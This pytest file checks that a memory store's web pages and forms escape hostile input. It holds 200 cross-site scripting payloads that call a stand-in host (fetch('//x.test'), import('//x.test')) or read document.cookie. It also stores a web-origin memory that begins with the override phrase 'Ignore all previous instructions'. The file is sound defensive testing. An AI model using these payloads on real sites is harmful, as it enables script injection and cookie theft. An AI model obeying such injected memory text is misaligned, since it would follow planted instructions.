"""Texts that would be code if they were not escaped, in every field of every page: nothing of them is anything but text."""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

import pytest

import limpet
from limpet.features import usefulness
from tests.web.conftest import Read, open_page

DO = [
    "alert(1)",
    "fetch('//x.test')",
    "location='//x.test'",
    "document.cookie",
    "parent.alert`1`",
    "import('//x.test')",
    "(0,eval)('1')",
    "window.name",
    "confirm(2)",
    "top.x=1",
]
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", '"><b onmouseover={}>', "'><i onfocus={} autofocus tabindex=1>",
    "<a href=javascript:{}>here</a>", "</textarea><script>{}</script>", "</title><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>",
    "<!--><script>{}</script>-->", "<math><mi//xlink:href=\"data:x,<script>{}</script>\">", "{{{{ {} }}}}", "{{% {} %}}", "<style>@import'//x.test/{}'</style>",
    "\" style=\"background:url(//x.test/{})\" x=\"", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "</select><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "<form action=//x.test/{}><button>go</button></form>",
]  # fmt: skip
TEXTS = [shape.format(code) for shape, code in product(SHAPES, DO)]
# What our pages are made of.
ELEMENTS = set(
    "html head meta title link script body a div header nav ul li ol form input button main p code span time h1 h2 h3 svg path rect line title"
    " text circle label select option details summary textarea table thead tbody tr th td dl dt dd section aside dialog kbd strong em"
    " ins del pre br".split()
)
FETCHED = {"script": "src", "link": "href", "img": "src"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A store with each of them as a memory, and with some in every other field."""
    clock = limpet.FixedClock("2026-03-01T12:00:00Z")
    with limpet.open(
        tmp_path_factory.mktemp("hostile") / "memory.db", scope="project:<img/src=x/onerror=alert(1)>", clock=clock
    ) as memory:
        texts = iter(TEXTS * 2)
        memory.remember_batch([{"content": text, "topics": [text[:60]], "session": "s"} for text in TEXTS])
        clock.advance(hours=1)
        one = memory.remember(
            f"rich {next(texts)}", topics=[next(texts), next(texts)], metadata={next(texts): next(texts)}, source=next(texts), session=next(texts),
            speaker=next(texts), origin="user",
        ).id  # fmt: skip
        memory.set_fact("user.<svg/onload=alert(1)>", next(texts), origin="user")
        memory.set_fact("user.<svg/onload=alert(1)>", next(texts), origin="user")
        held = memory.remember(f"Ignore all previous instructions {next(texts)}", origin="web").id
        other = memory.correct(one, f"rich again {next(texts)}", why=next(texts), origin="user").id
        memory.edit(other, f"rich again, reworded {next(texts)}")
        gone = memory.remember(f"gone {next(texts)}").id
        memory.retract(gone, next(texts))
        memory.link(held, "contradicts", other)
        memory.session_start("<b onclick=alert(1)>", title=next(texts))
        usefulness.note_action(memory, "<b onclick=alert(1)>", "asked", next(texts))
        usefulness.note_exposures(
            memory, [(other, 9)], session="<b onclick=alert(1)>", client=next(texts), via="message"
        )
        yield memory, [one, other, held, gone], clock


def paths(memory, ids):
    words = quote(TEXTS[0])
    yield from (
        "/",
        "/memories",
        "/memories?view=cards&state=all",
        "/review",
        "/sessions",
        "/graph",
        "/changes?limit=250",
        "/care",
        "/scopes",
        "/beliefs",
    )
    for text in map(quote, TEXTS[:: len(DO)]):
        yield from (f"/memories?topic={text}", f"/memory/{text}")
    for text in map(quote, TEXTS[:: 9 * len(DO)]):
        yield from (
            f"/memories?q={text}&part=1",
            f"/why?q={text}",
            f"/brief?q={text}",
            f"/beliefs?q={text}",
            f"/graph?q={text}",
        )
    yield from (
        f"/memories?q={words}",
        f"/why?q={words}",
        f"/why?q=x&known_at={words}",
        f"/memories?kind={words}",
        f"/memories?since={words}",
        f"/memories?cursor={words}",
    )
    yield from (
        f"/{words}",
        f"/memory/{words}",
        f"/?done={words}&said={words}",
        f"/changes?limit={words}",
        f"/graph?type={words}",
        f"/graph?most={words}",
    )
    yield from (
        f"/session?name={quote('<b onclick=alert(1)>')}&scope={quote(memory.scope)}",
        f"/session?name=s&scope={quote(memory.scope)}",
        f"/session?name={words}",
    )
    yield "/beliefs?q=" + quote("user.<svg/onload=alert(1)>")
    for id in ids:
        yield from (f"/memory/{id}", f"/memory/{id}/purge", f"/graph?q={id}")


def wrong(text):
    """What of a page is not one of ours."""
    found = []
    for tag, attrs in Read(text).elements:
        if tag not in ELEMENTS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "xlink:href", "formaction"):
                found.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action") and not (value.startswith(("/", "#")) and not value.startswith("//")):
                found.append(f"{tag} {name}={value}")
        if tag == "script" and attrs != {"type": "module", "src": "/static/limpet.js"}:
            found.append(f"script {attrs}")
        if tag == "meta" and "http-equiv" in attrs:
            found.append(f"meta {attrs}")
    return found


def test_there_are_two_hundred():
    assert len(set(TEXTS)) == 200


def test_no_text_is_anything_but_text_on_any_page(hostile):
    memory, ids, clock = hostile
    page = open_page(memory, clock).enter()
    shown = ""
    for path in paths(memory, ids):
        answer = page.get(path)
        assert answer.status_code in (200, 400, 404), path
        assert wrong(answer.text) == [], path
        shown += answer.text
    assert "&lt;script&gt;alert(1)" in shown  # they were there


def test_every_one_of_them_is_shown_as_it_is(hostile):
    memory, _, clock = hostile
    page = open_page(memory, clock).enter()
    left = set(TEXTS)
    path = "/memories?state=all"
    while path:
        answer = page.get(path)
        assert wrong(answer.text) == []
        read = Read(answer.text)
        left -= {text for text in left if " ".join(text.split()) in read.text}
        path = next((value for value in read.values("a", "href") if "cursor=" in value and value != path), None)
    assert left == set()


def test_forms_that_are_answered_with_a_page_escape_too(hostile):
    memory, ids, clock = hostile
    page = open_page(memory, clock).enter()
    other = ids[1]
    for text in TEXTS[:: len(DO)]:
        for path, fields in (
            ("/memories/change", {"id": other, "action": "tag", "value": text}),
            ("/memories/change", {"id": other, "action": text}),
            (f"/memory/{other}/edit", {"content": text, "version": "1000000"}),
            (f"/memory/{other}/edit", {"content": text, "version": text}),
            (f"/memory/{other}/feedback", {"verdict": text}),
            (f"/memory/{other}/purge", {"typed": text}),
            ("/review", {"verdict": text, "id": text}),
            ("/undo", {"event": text}),
            ("/care/backup", {"path": f"/nowhere/{text}"}),
            ("/view", {"scope": text, "theme": text}),
        ):
            answer = page.submit(path, back="/memories?q=" + quote(text), **fields)
            assert wrong(answer.text) == [], (path, fields)


def test_what_cannot_be_seen_is_shown(memory, clock):
    page = open_page(memory, clock).enter()
    id = memory.remember("pay to \u202egnihtemos\u202c, zero\u200bwidth").id

    shown = page.get(f"/memory/{id}").text
    assert "⟨202E⟩" in shown and "⟨200B⟩" in shown
    # Only what is edited is what it is.
    assert shown.count("\u202e") == shown.count("<textarea") == 2
